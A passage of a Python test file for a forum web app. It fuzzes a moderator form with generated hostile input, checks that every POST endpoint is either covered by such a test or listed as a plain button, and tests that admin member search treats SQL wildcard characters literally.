        safety_queue.resolve(alert, other_member)


@hostile_settings("note templates")
@given(source=st.one_of(hostile, st.builds("## {}\n{}".format, hostile, hostile)))
def test_note_templates(moderator_browser, source):
    payload("note templates")
    response = send(moderator_browser, "/mod/templates", {"templates": source})
    if response.status_code == 302:
        check_page(moderator_browser.get("/mod/templates"))
    else:
        check_refused(response, {"templates": source})


BUTTONS = {
    "accounts.logout", "accounts.resend_confirmation", "settings.toggle_energy_saver",
    "accounts.confirm", "settings.confirm_email_change", "accounts.sign_in_link",
    "moderation.approve",
    "posts.delete", "admin.category_archive", "admin.label_archive",
    # One button each, no fields: the post or thread is in the path.
    "posts.mark_helpful", "posts.unmark_helpful", "posts.mark_answer", "posts.unmark_answer",
    "threads.mark_all_read", "threads.mark_category_read",
    # Issue #13: buttons and choices from fixed lists, nothing typed (an unknown choice
    # is refused: tests/test_notifications.py, hour 25).
    "notifications.read_all", "notifications.watch_thread", "notifications.watch_category",
    "notifications.watch_tag", "notifications.mute", "settings.notifications_settings",
    # The post is in the path (removing is a button); the one-click unsubscribe takes
    # only its signed token, in the path (tests/test_unsubscribe.py tampers with it).
    "posts.remove_bookmark", "accounts.unsubscribe",
    # Issue #14: ignoring a member is a button; the member is in the path.
    "notifications.ignore", "notifications.unignore",
}
COVERED = {
    "accounts.register", "accounts.login", "accounts.login_code", "accounts.reset_request",
    "accounts.request_sign_in_link",
    "accounts.reset", "settings.index", "settings.change_email", "settings.change_password",
    "settings.reading_preferences", "settings.choose_language", "settings.request_verification",
    "settings.delete_account",
    "settings.enable_two_factor", "settings.disable_two_factor", "settings.new_recovery_codes",
    "accounts.report_user", "admin.decide_verification", "admin.revoke_expert",
    "threads.new_discussion", "threads.new_article", "threads.label", "posts.reply",
    "posts.edit", "posts.flag", "posts.label", "moderation.lock", "moderation.unlock",
    "moderation.pin", "moderation.unpin", "moderation.move", "moderation.hide",
    "moderation.restore", "moderation.resolve", "moderation.reject", "moderation.suspend",
    "moderation.reinstate", "moderation.ban", "admin.category_list", "admin.category_edit",
    "admin.label_list", "admin.label_edit", "admin.community_settings", "admin.user_role",
    "admin.user_two_factor_reset", "posts.save_draft", "posts.discard_draft", "posts.bookmark",
    "threads.mark_reviewed", "admin.guidelines", "admin.safety_lists",
    "moderation.members_only", "moderation.alert_note", "moderation.alert_escalate",
    "moderation.alert_resolve", "moderation.note_templates",
}


def test_every_form_is_fed_hostile_input(app):
    """Walks the URL map: a new form needs a hostile-input test here (or is a button)."""
    posting = {rule.endpoint for rule in app.url_map.iter_rules() if "POST" in rule.methods}
    assert posting - COVERED - BUTTONS == set(), "forms without hostile-input tests"
    assert (COVERED | BUTTONS) - posting == set(), "tests for forms that no longer exist"


def test_the_admins_member_search_reads_percent_and_underscore_as_letters(admin_browser):
    make_user("ann_lee")
    make_user("annXlee")
    found = admin_browser.get("/admin/users?q=ann_").get_data(as_text=True)
    assert ">ann_lee</a>" in found and ">annXlee</a>" not in found
    everyone = admin_browser.get("/admin/users?q=%25").get_data(as_text=True)
    assert ">ann_lee</a>" not in everyone  # "%" is not "anything"
